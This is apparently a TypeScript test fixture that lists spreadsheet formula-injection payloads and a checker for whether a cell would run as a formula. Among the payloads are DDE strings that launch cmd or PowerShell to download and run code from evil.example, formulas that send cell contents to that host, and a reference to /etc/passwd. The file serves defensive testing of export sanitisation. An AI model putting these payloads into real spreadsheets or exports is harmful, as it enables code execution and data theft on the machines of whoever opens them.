/** Text that a spreadsheet would run, offer to run, or use to connect to somewhere, as a formula (V-9). */
const cores: readonly string[] = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "=cmd|'/c powershell IEX(wget evil.example/x)'!_xlbgnm.A1",
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  '=IMPORTXML("http://evil.example/?"&A1,"//a")',
  '=IMPORTDATA("http://evil.example/"&A1)',
  '=IMPORTHTML("http://evil.example","table",1)',
  '=IMPORTRANGE("key","A1:B2")',
  '=IMAGE("http://evil.example/?"&A1)',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  "='file:///etc/passwd'#$passwd.A1",
  '=EXEC("calc")',
  '=CALL("urlmon","URLDownloadToFileA")',
  "=SUM(1,1)*cmd|'/C calc'!A0",
  "=@SUM(A1)",
  "=+1",
  "=-1",
  "==1",
  "+1+1",
  "+cmd|' /C calc'!A0",
  "+1 (555) 0142",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "- not a list",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@handle",
  "|calc",
  "|cmd' /C calc'!A0",
  "%0A=1+1",
  "%windir%",
  '=1+1";=1+1',
  "=1+1,=1+1",
  '=1+1"\r\n"=2+2',
  "=1\n=2",
  "={1,2}",
  "=A1:A9",
  "=1+1</t><f>1+1</f>",
  "=<f>1+1</f>",
  "=]]><f>1</f>",
  '=_xlfn.FILTERXML("<a/>","//a")',
  '=RTD("x.y",,"z")',
  "+A1",
  "-A1",
  "@A1",
];

/** Characters that spreadsheets skip first: white space of all kinds, controls, a byte order mark. */
const before: readonly string[] = [
  "",
  " ",
  "\t",
  "\r",
  "\n",
  "\u00A0",
  "\uFEFF",
  "\u2003",
  "\u0001",
  "\u007F",
  " \t\uFEFF",
];

const all = cores.flatMap((core, index) => [core, `${before[(index % (before.length - 1)) + 1]}${core}`]);

/** At least fifty, each with one kind of trick, alone and after skipped characters. */
export const formulaPayloads: readonly string[] = [...new Set(all)];

/** Independent of the server's own rule: would a spreadsheet treat this cell as more than text? */
export const isRunnable = (cell: string): boolean => {
  const skipped = /^[\p{White_Space}\p{Cc}\uFEFF]+/u;
  return "=+-@|%".includes(cell.replace(skipped, "").charAt(0) || "x");
};
